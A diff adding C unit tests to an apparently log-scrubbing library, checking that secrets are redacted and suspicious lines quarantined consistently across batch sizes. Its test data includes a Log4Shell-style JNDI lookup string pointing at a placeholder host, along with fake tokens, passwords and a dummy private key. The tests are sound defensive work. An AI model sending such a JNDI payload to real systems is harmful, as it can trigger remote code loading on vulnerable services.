@@ -480,6 +480,66 @@ UT_TEST(stream_boundary_splits)
     scrub_ruleset_unref(rs);
 }
 
+/* One feed with many more candidate lines than the stream lists at a time
+ * (its spans array holds 4096): the same output, quarantine and counts as
+ * feeding a few lines at a time, with a private key whose BEGIN line is the
+ * last of a batch. Before, the overflow rescanned the rest of the buffer for
+ * every line (3x slower on all-dirty input). */
+UT_TEST(stream_many_candidate_lines)
+{
+    static const char *const lines[] = {
+        "GET /cb?state=x&id_token=eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
+        "c2lnbmF0dXJlX3BhcnRfb2ZfdGhlX3Rva2Vu HTTP/1.1\n",
+        "Authorization: Bearer 0VrbBGI09QYNdaKy8isWydfh\n",
+        "login failed: password incorrect for user bob\n",
+        "x password=S3cr3t!Pass\n",
+        "${jndi:ldap://evil.example/a}\n",
+        "api_key=changeme\n",
+    };
+    scrub_ruleset_t *rs = default_rules();
+    scrub_buf_t in;
+    capture_t one, few;
+    scrub_counts_t c1, c2;
+    size_t i, nlines = 0;
+
+    UT_CHECK(rs != NULL);
+    if (rs == NULL) {
+        return;
+    }
+    scrub_buf_init(&in, 0);
+    for (i = 0; i < 12000; i++) {
+        const char *l = lines[(i * 7) % 6];
+        if (i == 4095) { /* every line is a candidate: the key starts the last of a batch */
+            scrub_buf_puts(&in, "key -----BEGIN RSA PRIVATE KEY-----\n"
+                                "MIIEowIBAAKCAQEA7bq8abcdefghijklmnopqrstuvwxyz0123456789ABCDEF\n"
+                                "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm0123456789+/\n"
+                                "-----END RSA PRIVATE KEY-----\n");
+            nlines += 4;
+        }
+        UT_CHECK(scrub_buf_puts(&in, l) == 0);
+        nlines++;
+    }
+    run_stream(rs, in.data, in.len, 0, &one, &c1);
+    run_stream(rs, in.data, in.len, 997, &few, &c2);
+    UT_CHECK(one.out.len == few.out.len && memcmp(one.out.data, few.out.data, one.out.len) == 0);
+    UT_CHECK(one.quar.len == few.quar.len &&
+             memcmp(one.quar.data, few.quar.data, one.quar.len) == 0);
+    UT_CHECK_INT(c1.records_in, nlines);
+    UT_CHECK(c1.records_in == c2.records_in && c1.findings == c2.findings &&
+             c1.redacted == c2.redacted && c1.quarantined == c2.quarantined);
+    UT_CHECK_INT(c1.quarantined, 2000); /* every JNDI line */
+    UT_CHECK(memmem(one.out.data, one.out.len, "0VrbBGI", 7) == NULL);
+    UT_CHECK(memmem(one.out.data, one.out.len, "S3cr3t", 6) == NULL);
+    UT_CHECK(memmem(one.out.data, one.out.len, "QWERTY", 6) == NULL);
+    UT_CHECK(memmem(one.out.data, one.out.len, "password incorrect", 18) != NULL);
+    scrub_buf_free(&one.out);
+    scrub_buf_free(&one.quar);
+    scrub_buf_free(&few.out);
+    scrub_buf_free(&few.quar);
+    scrub_buf_free(&in);
+    scrub_ruleset_unref(rs);
+}
+
 /* Quarantine calls of an oversized record: "F3@0:<bytes>" = part FIRST, record 3, offset 0. */
 static int log_quar(void *ctx, const scrub_origin_t *o, const scrub_result_t *res,
                     const uint8_t *rec, size_t len)
@@ -638,6 +698,27 @@ UT_TEST(prefilter_engines_agree)
                     UT_CHECK(la[q].start == lb[q].start && la[q].end == lb[q].end);
                     /* merged keywords are checked at each hit: the same rules, exactly */
                     UT_CHECK(la[q].bits[0] == lb[q].bits[0]);
+                }
+                /* a full spans[] is resumed after its last line: batches of 3
+                 * give the same lines and rules as one call, on both engines */
+                for (q = 0; q < 2 && ka < 1000; q++) {
+                    scrub_prefilter_t *e = q == 0 ? a : b;
+                    scrub_pf_scratch_t *se = q == 0 ? sa : sb;
+                    scrub_span_t sp[3];
+                    uint64_t w3[3];
+                    size_t at = 0, got = 0, j, kk;
+                    do {
+                        kk = scrub_prefilter_lines(e, se, (const uint8_t *)text + at, n - at, sp,
+                                                   3, w3, 1, NULL);
+                        UT_CHECK(kk <= 3);
+                        for (j = 0; kk <= 3 && j < kk && got < ka; j++, got++) {
+                            UT_CHECK(sp[j].start + at == la[got].start &&
+                                     sp[j].end + at == la[got].end);
+                            UT_CHECK(sp[j].bits[0] == la[got].bits[0]);
+                        }
+                        at = kk == 3 ? at + sp[2].end : n;
+                    } while (kk == 3 && at < n);
+                    UT_CHECK_INT(got, ka);
                 }
             }
             scrub_prefilter_collect(a, sa, (const uint8_t *)text, n, &ba);
